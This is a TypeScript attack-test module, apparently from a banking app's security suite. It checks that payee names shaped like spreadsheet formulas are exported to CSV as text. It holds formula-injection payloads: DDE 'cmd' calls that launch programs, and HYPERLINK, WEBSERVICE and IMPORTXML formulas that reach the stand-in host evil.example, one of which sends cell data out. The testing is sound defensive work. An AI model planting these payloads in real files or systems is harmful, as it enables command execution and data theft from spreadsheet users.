import Papa from "papaparse";
import { DEMO_ACCOUNTS } from "@/lib/shared/demo-accounts";
import { connectCaller } from "@/tests/attack/bank-caller";
import { type Family, runInParallel } from "@/tests/attack/campaign";
import { until } from "@/tests/attack/until";

/** Characters that start a formula in spreadsheets; full-width characters do so in some locales. */
const PREFIXES = [
  "=",
  "+",
  "-",
  "@",
  "＝",
  "＋",
  "－",
  "＠",
  "|",
  "%",
  "\t=",
  "\r=",
  "\n=",
  " =",
  '"=',
  "'=",
  '",=',
  ";=",
  ",=",
];
const FORMULAS = [
  ...["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?"&A1,"x")', "SUM(1+9)*cmd|' /C calc'!A0"],
  ...['WEBSERVICE("http://evil.example")', 'IMPORTXML("http://evil.example","//a")', 'DDE("cmd";"/C calc";"x")'],
];
const IS_FORMULA = /^[\s\u00a0]*[=+\-@＝＋－＠\t\r\n]/;
const NUMBER = /^-?\d+(\.\d+)?$/;

/** Adds payee names that look like formulas, which must be exported as text. */
export const formulas: Family = {
  name: "formulas in exports",
  rules: ["R-35"],
  async run(campaign, judge) {
    const { random, isShort, target, portal, people } = campaign;
    const bank = await connectCaller(campaign, target.bank);
    const marks = Array.from({ length: isShort ? 24 : 100 }, (_, index) => `fq${index}z`);
    const accepted: string[] = [];
    await runInParallel(marks, 3, async (mark, index) => {
      const prefix = PREFIXES[index % PREFIXES.length]!;
      const payeeName = `${prefix}${random.pick(FORMULAS)} ${mark}`;
      const body = {
        ...{ accountNumber: DEMO_ACCOUNTS.operating.accountNumber, amount: 100, payeeName },
        checkNumber: String(5_000_000 + index),
      };
      const response = await bank.call("POST", "/sandbox/v1/inbound-checks", body);
      if (response.status === 200) accepted.push(mark);
      else
        judge.record(
          payeeName,
          `POST /sandbox/v1/inbound-checks ${JSON.stringify(body)}`,
          response.status === 400 ? null : `${response.status}`,
        );
    });
    const request = { path: "/api/payments/export", headers: { cookie: people.viewer.cookie! } };
    const text = await until(
      async () => (await portal(request)).text,
      (csv) => accepted.every((mark) => csv.includes(mark)),
    );
    const { data } = Papa.parse<string[]>(text.replace(/^\uFEFF/, ""));
    const cells = data.flat();
    for (const mark of accepted) {
      const payeeCells = cells.filter((cell) => cell.includes(mark));
      const formulaCell = payeeCells.find((cell) => IS_FORMULA.test(cell) && !NUMBER.test(cell));
      const gain =
        payeeCells.length === 0 ? "the payee is missing from the file, so nothing was attacked" : (formulaCell ?? null);
      judge.record(`a payee ${mark}`, "GET /api/payments/export", gain);
    }
  },
};
